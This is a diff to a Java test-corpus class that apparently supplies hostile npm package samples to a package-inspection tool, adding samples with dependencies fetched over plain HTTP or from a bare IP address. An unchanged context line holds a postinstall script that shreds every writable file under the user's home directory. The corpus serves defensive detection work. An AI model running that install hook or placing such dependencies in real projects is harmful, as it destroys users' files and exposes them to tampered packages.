@@ -1,5 +1,6 @@
 package cordon.inspect.corpus;
 
+import cordon.inspect.testing.Artifact;
 import java.util.List;
 
 /** What is taken from the machine or from who works on it, by less usual ways. */
@@ -12,6 +13,8 @@ final class NpmTakers {
 
   static List<Sample> all() {
     return List.of(
+        depends("a package by plain HTTP", "http://packages.example/npm/ui-styles"),
+        depends("an archive of a bare address", "http://192.0.2.77:8000/a-1.0.0.tgz"),
         Sample.postinstall(
             "a template that goes on after a name",
             """
@@ -126,5 +129,17 @@ final class NpmTakers {
               require('child_process').spawnSync('bash', ['-c', 'find "$HOME" -type f -writable -print0 | xargs -0 -r shred -uvz -n 1']);
             }
             """));
+  }
+
+  static Sample depends(String name, String on) {
+    return new Sample(
+        name,
+        Artifact.npm("sample", "1.0.0")
+            .file(
+                "package.json",
+                "{\"name\":\"sample\",\"version\":\"1.0.0\",\"dependencies\":{\"ui-styles\":\""
+                    + on
+                    + "\"}}")
+            .file("index.js", "module.exports = 1;\n"));
   }
 }
